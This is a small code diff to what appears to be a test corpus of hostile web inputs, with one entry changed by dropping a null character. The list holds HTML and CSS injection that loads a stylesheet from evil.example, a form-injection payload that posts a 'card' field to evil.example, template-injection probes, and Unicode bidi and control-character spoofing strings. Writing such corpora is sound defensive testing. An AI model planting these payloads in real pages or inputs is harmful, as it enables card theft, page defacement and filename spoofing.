@@ -106,7 +106,7 @@ const corpus = [
   `"><style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>`,
   `{{constructor.constructor('document.title=1')()}} \${7*7} <%= 7*7 %>`,
   `</textarea><form action=//evil.example><input name=card></form>`,
-  `\u202Egnp.exe \u2066\u2067 \u0000\u0007\u001B[31mred Z${'\u0301'.repeat(200)}`,
+  `\u202Egnp.exe \u2066\u2067 \u0007\u001B[31mred Z${'\u0301'.repeat(200)}`,
   `Win now: https://evil.example/x www.evil.example evil.example/y mail me@evil.example or +1 555 123 4567 890`,
   'W'.repeat(4000),
 ];
